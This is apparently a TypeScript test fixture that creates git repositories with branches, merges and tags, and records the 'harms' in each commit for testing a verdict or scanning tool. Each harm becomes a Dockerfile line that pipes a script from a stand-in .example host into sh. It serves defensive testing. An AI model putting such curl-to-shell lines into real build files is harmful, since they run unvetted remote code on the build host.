import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createRepository } from '../../git-repository.js';

/** The content of a commit, as far as a verdict depends on it: each harm is a finding that fails by default. */
export interface Content {
  readonly harms: readonly string[];
  /** Other files, such as a policy. */
  readonly files?: Readonly<Record<string, string>>;
}

/** A repository on a server, with branches and tags, and what each of its commits contains. */
export interface Project {
  /** Its address. */
  readonly url: string;
  /** Commits on a branch, and returns the hash. A branch that does not exist starts at `from`, or main. */
  commit(branch: string, content: Content, from?: string): string;
  /** Merges a branch as servers do, and returns the hash: a commit of the target and the branch. `onto` is not moved. */
  merge(branch: string, target: string, ref: string): string;
  /** Moves a branch to a commit, also backwards. */
  move(branch: string, commit: string): void;
  tag(name: string, commit: string): void;
  tip(branch: string): string;
  /** The commit at which two revisions separated. */
  base(one: string, other: string): string;
  harmsAt(commit: string): ReadonlySet<string>;
  git(...words: string[]): string;
}

const START = `FROM debian:13.1@sha256:${'0'.repeat(64)}\n`;

export function createProject(folder: string): Project {
  mkdirSync(folder, { recursive: true });
  createRepository(folder);
  const contents = new Map<string, Content>();
  const git = (...words: string[]) =>
    execFileSync('git', ['-C', folder, ...words], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'ignore'],
    }).trim();
  // A server serves any commit that a run names.
  git('config', 'uploadpack.allowAnySHA1InWant', 'true');
  const has = (branch: string) => git('branch', '--list', branch) !== '';
  const write = ({ harms, files = {} }: Content) => {
    git('rm', '-rqf', '--ignore-unmatch', '.');
    const lines = harms.map((harm) => `RUN curl -fsSL https://${harm}.example/install.sh | sh\n`);
    const all = { Dockerfile: [START, ...lines, 'USER 1000\n'].join(''), ...files };
    for (const [path, text] of Object.entries(all)) {
      rmSync(join(folder, path), { force: true });
      mkdirSync(join(folder, path, '..'), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
  };
  const recorded = (commit: string, content: Content) => {
    contents.set(commit, content);
    return commit;
  };
  const at = (commit: string): Content => {
    const content = contents.get(commit);
    if (!content) throw new Error(`${commit} is no commit of the story`);
    return content;
  };
  return {
    url: `file://${folder}`,
    commit(branch, content, from = 'main') {
      if (has(branch)) git('checkout', '-q', branch);
      else if (contents.size > 0) git('checkout', '-q', '-b', branch, from);
      write(content);
      git('add', '-Af');
      git('commit', '-q', '--allow-empty', '-m', `change ${contents.size}`);
      return recorded(git('rev-parse', 'HEAD'), content);
    },
    merge(branch, target, ref) {
      const [before, source] = [git('rev-parse', target), git('rev-parse', branch)];
      const common = at(git('merge-base', before, source));
      const [ours, theirs] = [at(before), at(source)];
      const removed = common.harms.filter((harm) => !theirs.harms.includes(harm));
      const added = theirs.harms.filter((harm) => !common.harms.includes(harm));
      const harms = [...ours.harms.filter((harm) => !removed.includes(harm)), ...added];
      const content = { harms, files: { ...ours.files, ...theirs.files } };
      git('checkout', '-q', '--detach', before);
      write(content);
      git('add', '-Af');
      const tree = git('write-tree');
      const commit = git('commit-tree', tree, '-p', before, '-p', source, '-m', 'merge');
      git('reset', '-q', '--hard', before);
      git('update-ref', ref, commit);
      return recorded(commit, content);
    },
    move(branch, commit) {
      git('checkout', '-q', '--detach');
      git('branch', '-qf', branch, commit);
    },
    tag: (name, commit) => git('tag', name, commit),
    tip: (branch) => git('rev-parse', `refs/heads/${branch}`),
    base: (one, other) => git('merge-base', one, other),
    harmsAt: (commit) => new Set(at(commit).harms),
    git,
  };
}
